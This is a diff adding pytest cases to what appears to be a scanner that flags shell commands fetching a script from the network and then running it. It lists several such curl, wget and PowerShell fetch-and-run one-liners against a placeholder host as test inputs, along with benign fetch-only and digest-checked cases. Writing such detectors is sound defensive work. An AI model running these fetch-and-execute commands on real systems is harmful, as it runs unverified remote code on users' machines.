@@ -76,6 +76,26 @@ def test_a_disguise_does_not_help(text: str) -> None:
     assert _rules(text)
 
 
+def test_a_file_that_is_fetched_and_not_run_is_left_alone() -> None:
+    assert findings_in_commands("curl -o inst.sh https://a.example/x\nless inst.sh\n") == ()
+    assert findings_in("Save it with `curl -o inst.sh https://a.example/x` and read it.") == ()
+    assert findings_in_commands("curl -o inst.sh http://localhost:8000/x && sh inst.sh") == ()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -fLO https://a.example/x.sh && bash x.sh",
+        "curl --remote-name-all https://a.example/x.sh; sh ./x.sh",
+        "URL=https://a.example/x.sh; curl -s $URL -o y.sh; bash y.sh",
+        "iwr https://a.example/x.ps1 -OutFile x.ps1; ./x.ps1",
+        "wget -qO - https://a.example/x > y.sh && sh y.sh",
+    ],
+)
+def test_a_file_that_is_fetched_under_any_name_and_run_is_found(line: str) -> None:
+    assert [each.rule for each in findings_in_commands(line)] == ["runs/fetched-code"]
+
+
 def test_a_file_whose_digest_is_checked_may_be_run() -> None:
     assert findings_in_commands("curl -fLO https://a.example/x.sh\nsha256sum -c x.sum\nbash x.sh\n") == ()
     assert findings_in_commands("curl -fLO https://a.example/x.sh\nbash x.sh\n") != ()
